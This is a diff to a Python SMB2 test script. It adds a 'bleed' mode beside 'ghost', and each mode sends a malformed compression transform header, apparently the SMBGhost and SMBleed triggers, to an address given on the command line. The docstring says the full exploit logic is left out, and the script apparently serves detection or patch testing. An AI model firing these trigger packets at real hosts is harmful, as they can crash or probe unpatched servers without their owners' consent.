@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 """Messages of SMB2 that exploits send, without what makes them work, and opens that tools make.
 
-    smb2.py ghost ADDRESS
+    smb2.py ghost|bleed ADDRESS
     smb2.py open ADDRESS USER PASSWORD SHARE NAME...      opens, writes and reads each
 """
 import socket
@@ -11,7 +11,12 @@ import sys
 from impacket.smbconnection import SMBConnection
 
 
-def ghost(address):
+# COMPRESSION_TRANSFORM_HEADER: sizes that overflow; four octets that are to make 4096.
+GHOST = b"\xfcSMB" + struct.pack("<LHHL", 32, 1, 0, 0xFFFFFFFF) + b"\0" * 32
+BLEED = b"\xfcSMB" + struct.pack("<LHHL", 4096, 1, 0, 0) + b"\x03\x30ABCD"
+
+
+def compressed(address, message):
     def framed(message):
         return struct.pack(">L", len(message)) + message
 
@@ -25,7 +30,7 @@ def ghost(address):
         connection.settimeout(2)
         connection.sendall(framed(header + negotiate + dialects + preauth + compression))
         connection.recv(4096)
-        connection.sendall(framed(b"\xfcSMB" + struct.pack("<LHHL", 32, 1, 0, 0xFFFFFFFF) + b"\0" * 32))
+        connection.sendall(framed(message))
         try:
             connection.recv(4096)
         except OSError:
@@ -48,4 +53,5 @@ def opened(address, user, password, share, *names):
 
 
 if __name__ == "__main__":
-    {"ghost": ghost, "open": opened}[sys.argv[1]](*sys.argv[2:])
+    KINDS = {"ghost": lambda address: compressed(address, GHOST), "bleed": lambda address: compressed(address, BLEED), "open": opened}
+    KINDS[sys.argv[1]](*sys.argv[2:])
